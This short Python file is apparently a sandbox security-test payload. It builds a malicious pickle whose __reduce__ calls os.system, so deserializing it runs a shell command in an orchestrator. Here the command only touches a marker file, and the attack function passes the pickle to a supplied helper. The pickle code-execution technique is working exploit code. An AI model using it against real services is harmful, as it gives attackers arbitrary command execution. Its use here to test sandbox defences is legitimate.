# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""Send a pickle whose unpickling would run a command in the orchestrator."""

import os
import pickle


class Exploit:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def attack(helper_source, marker):
    namespace = {}
    exec(helper_source, namespace)
    namespace["forge"](pickle.dumps(Exploit(marker)))
    os._exit(0)
